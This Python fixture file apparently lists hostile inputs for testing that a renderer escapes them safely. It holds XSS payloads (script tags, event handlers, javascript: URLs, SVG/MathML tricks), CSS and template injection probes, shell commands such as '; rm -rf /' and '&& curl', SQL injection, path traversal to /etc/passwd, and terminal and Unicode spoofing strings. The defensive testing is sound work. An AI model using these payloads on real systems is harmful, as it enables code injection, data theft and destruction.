"""Hostile texts: each tries to become script, markup, style, an address, a template, or another layout.

Whatever runs sets `window.canary`, opens a dialog, asks the network or writes to the console.
"""

from __future__ import annotations

RUN = "window.canary=1;alert(1)"
HANDLERS = (
    "onload onerror onclick onmouseover onmouseenter onfocus onblur oninput onchange onsubmit onreset onselect ontoggle "
    "onanimationstart onanimationend ontransitionend onpointerenter onpointerdown onwheel onscroll onkeydown onkeyup "
    "onresize onhashchange onpageshow onbeforeunload onmessage onpopstate oncanplay onloadstart onprogress onended "
    "oncut oncopy onpaste ondrag ondrop oncontextmenu onauxclick onbegin onend onrepeat onbeforetoggle onscrollend "
    "onsecuritypolicyviolation onslotchange oncuechange onbeforeinput onformdata ongotpointercapture onvolumechange"
)
SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>", f"<script type=module>{RUN}</script>",
    '<script src="https://canary.invalid/x.js"></script>', '<script src=//canary.invalid/x></script>',
    f"</script><script>{RUN}</script>", f"'\"><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</svg><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"</pre></code></div></main><script>{RUN}</script>",
    f"\x00<script>{RUN}</script>", f"<\x00script>{RUN}</script>", f"<script\x00>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞", f"<ѕcript>{RUN}</ѕcript>", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}", f"\\x3cscript\\x3e{RUN}", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{RUN}", f"&amp;lt;script&amp;gt;{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"¼script¾{RUN}¼/script¾", f"<script>/*\n*/{RUN}//",
]  # fmt: skip
MARKUP = [
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<svg><set onbegin='{RUN}' attributeName=x to=y>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject>", "<svg><use href='https://canary.invalid/x#y'/>",
    "<svg><image href='https://canary.invalid/x.png'/>", f"<svg><style>*{{display:none}}</style><title><img src=x onerror={RUN}>",
    f"<svg><desc><![CDATA[</desc><img src=x onerror={RUN}>]]>", f"</title></svg><img src=x onerror={RUN}>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}>", f"<math href='javascript:{RUN}'>x</math>",
    "<img src=https://canary.invalid/a.png>", "<img srcset='https://canary.invalid/b.png 1x'>", "<image src=https://canary.invalid/c>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src='javascript:parent.{RUN}'>", "<iframe src=https://canary.invalid>",
    f"<object data='javascript:{RUN}'>", "<object data=https://canary.invalid>", "<embed src=https://canary.invalid>",
    "<link rel=stylesheet href=https://canary.invalid/x.css>", "<link rel=prefetch href=https://canary.invalid/x>",
    "<base href=https://canary.invalid/>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://canary.invalid'>", "<meta charset=utf-7>",
    "<form action=https://canary.invalid><input autofocus><button>x</button></form>", f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>", f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>",
    f"<video><source onerror={RUN}>", "<video poster=https://canary.invalid/p>", f"<marquee onstart={RUN}>x</marquee>",
    f"<body onload={RUN}>", f"<html onmouseover={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<keygen autofocus onfocus={RUN}>", "<template><img src=x></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<plaintext>", "<xmp>", "<listing>", "<textarea>", "<title>", "<style>", "<noframes>", "<noembed>", "<table><tr><td>",
    "</table></div></section></main></body></html>", "</td></tr></tbody></table>", "</li></ul></article>", "</details></summary>",
    "<!-- never closed", "<!--><img src=x>", "<!DOCTYPE html>", "<![CDATA[ never closed", "<?xml version='1.0'?>", "<?php echo 1 ?>",
    "<dialog open>x</dialog>", "<portal src=https://canary.invalid>", "<frameset><frame src=https://canary.invalid>",
    "<h1>a heading</h1>", "<a href=https://canary.invalid ping=https://canary.invalid>x</a>", "<b><i><u><s><font size=99 color=red>",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>x</div>", "<p id=rounds name=rounds>clobber</p>",
    "<img name=body id=body>", "<custom-element>x</custom-element>", "<input type=image src=https://canary.invalid/i>",
    "<table background=https://canary.invalid/t>", "<button popovertarget=x autofocus>x</button>", "<slot name=x>", "<wbr><br><hr>",
]  # fmt: skip
ADDRESSES = [
    f"{scheme}{RUN}" for scheme in
    ("javascript:", "JaVaScRiPt:", " javascript:", "java\nscript:", "java\tscript:", "\x01javascript:", "javascript&colon;",
     "&#106;avascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=",
     "blob:", "view-source:javascript:", "jar:javascript:", "//canary.invalid/", "https://canary.invalid/?", "file:///etc/passwd#")
]  # fmt: skip
STYLES = [
    "</style><style>*{display:none!important}", "}*{display:none}", "}}body{background:url(https://canary.invalid/s)}",
    "expression(alert(1))", "url(javascript:alert(1))", "@import 'https://canary.invalid/x.css';", "-moz-binding:url(x)",
    "behavior:url(x.htc)", "width:expression(alert(1))", '" style="position:fixed;inset:0', "' style='display:none",
    "100%;position:fixed;top:0;left:0;height:9999px", "/* never closed", "\\3c style\\3e", "red;background:url(//canary.invalid)",
    "var(--bg)}:root{--ink:transparent", '" class="hidden', "content:attr(x)", "0%}</style>", "}@font-face{src:url(//canary.invalid)}",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{% raw %}", "{% endraw %}", "{% include 'report.html' %}",
    "{% for x in range(10**9) %}x{% endfor %}", "{# comment", "#}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<% while true %>", "{{constructor.constructor('alert(1)')()}}",
    "{{{raw}}}", "[[7*7]]", "[%7*7%]", "*{7*7}", "@(7*7)", "{{ self.__init__.__globals__ }}", "%(secret)s %s %n %x", "{0.__class__}", "{}{0}{missing}",
    "$(touch canary)", "`touch canary`", "; rm -rf /", "&& curl https://canary.invalid", "'; DROP TABLE rows; --", "' OR '1'='1", "../../etc/passwd",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{RUN})", "![x](https://canary.invalid/x.png)", "<https://canary.invalid>", "# heading", "```\n</code></pre>\n```",
    "| a | b |\n|---|---|", "[x]: https://canary.invalid", "***", "---\ntitle: x\n---", "> quote", f"[x](data:text/html,{RUN})",
    "https://canary.invalid www.canary.invalid", "&nbsp;&copy;&zwnj;&lrm;&NewLine;", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1-1", "-2+3",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://canary.invalid\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\r\noverwritten",
    "\x07\x08\x08\x08", "\x7f", "a\x00b\x00c", "\x0b\x0c\x0e\x0f", "\x1b[6n", "\x1bP+q\x1b\\", "\x85next", "\x1b[8mhidden", "\x1b]52;c;YQ==\x07",
]  # fmt: skip
LOOKS = [
    *(f"left{c}<right>" for c in "\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\u00ad\u2060\u180e\u2028\u2029\ufff9\U000e0041"),
    "pаypаl.com", "аdmin", "ｆｕｌｌ　ｗｉｄｔｈ", "𝓈𝒸𝓇𝒾𝓅𝓉", "Ꭰеϲіѕіоո: рυblіѕh", "x" + "\u0301" * 200, "Z̷̢̛" * 30, "﷽" * 40, "𒐫" * 40, "ꧾ" * 40,
    "👩‍👩‍👧‍👦" * 40, "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "W" * 5000, "i" * 5000, "漢字" * 500, "\n" * 500, "\t" * 500, " " * 500, "مرحبا " * 50, "שלום <b>", "\ue000\uf8ff", "\ufdd0\uffff", "",
    " ", "null", "NaN", "None", "undefined", "-0", "1e999", "true", "\\", "\\\\", '"', "'", "`", "<", ">", "&", "&amp;", "</", "<!", "]]>", "a" + "<b>" * 2000,
]  # fmt: skip
HOSTILE = [
    *SCRIPTS, *(f"\"'><img src=x {h}='{RUN}'>" for h in HANDLERS.split()), *(f'" {h}="{RUN}" x="' for h in HANDLERS.split()),
    *MARKUP, *ADDRESSES, *STYLES, *TEMPLATES, *MARKDOWN, *TERMINAL, *LOOKS,
]  # fmt: skip
HUGE = "<script>" + "\u202e<b>x " * 1_500_000  # 10 MB and more
